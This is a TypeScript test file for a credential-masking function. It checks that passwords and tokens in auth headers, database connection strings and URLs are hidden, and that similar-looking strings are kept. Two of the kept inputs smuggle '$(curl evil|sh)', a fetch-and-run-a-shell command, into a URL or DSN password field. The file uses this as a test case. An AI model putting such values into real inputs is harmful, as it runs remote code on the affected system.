import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { maskText } from '../../../src/core/mask/text.ts';
import { bare } from '../../support/masks.ts';

describe('credentials of requests', () => {
  const hidden: [string, string][] = [
    ['Authorization: Bearer abcdef0123456789', 'Authorization: Bearer ••••••'],
    ['Authorization: Basic dXNlcjpwYXNz', 'Authorization: Basic ••••••'],
    ["-H 'authorization: token 8f14e45fceea167a5a36'", "-H 'authorization: token ••••••'"],
    ['postgres://app:hunter22@db/main', 'postgres://app:••••••@db/main'],
    ['redis://:p@ss@cache:6379', 'redis://:••••••@cache:6379'],
    ['https://8f14e45fceea167a5a36dedd@git.test/x', 'https://••••••@git.test/x'],
    ['root:Hunter22xx@tcp(db.example:3306)/shop', 'root:••••••@tcp(db.example:3306)/shop'],
    ['dsn=app:p@ss:w.rd@unix(/run/mysql.sock)/shop', 'dsn=app:••••••@unix(/run/mysql.sock)/shop'],
    ['jdbc:oracle:thin:scott/Tiger99x@db:1521/orcl', 'jdbc:oracle:thin:scott/••••••@db:1521/orcl'],
    ['jdbc:oracle:oci:hr/Welcome1@//db/orcl', 'jdbc:oracle:oci:hr/••••••@//db/orcl'],
    ['sqlplus -s system/Manager1@orcl @drop.sql', 'sqlplus -s system/••••••@orcl @drop.sql'],
    ['dump app:Hunter22xx@db.example:5432/shop', 'dump app:••••••@db.example:5432/shop'],
  ];
  for (const [text, masked] of hidden) test(`hidden: ${text}`, () => assert.equal(bare(maskText(text).value), masked));

  const facts = [
    'Basic understanding of the rules',
    'Basic Authentication is used',
    'Bearer of bad news',
    'http://host:8080/path?mail=a@b.test',
    'https://user@host/path',
    'ssh://git@github.com:22/x',
    'http://a:$(curl evil|sh)@b',
    'mail://a:b c@d',
    'root:$(curl evil|sh)@tcp(db:3306)/shop',
    `root:\${PASSWORD}@tcp(db:3306)/shop`,
    'https://evil-9f2ab.example/x@tcp(db:3306)/shop',
    'jdbc:oracle:thin:@db:1521/orcl',
    'sqlplus system@orcl @drop.sql',
    'docker pull registry.test:5000/shop/api:v2@sha256:12',
    'docker pull nginx:1.25@sha256:9d272ec0f1b2a3c4',
    'mailto:dana@a.example:25',
  ];
  for (const text of facts) test(`a fact: ${text}`, () => assert.equal(maskText(text).value, text));
});
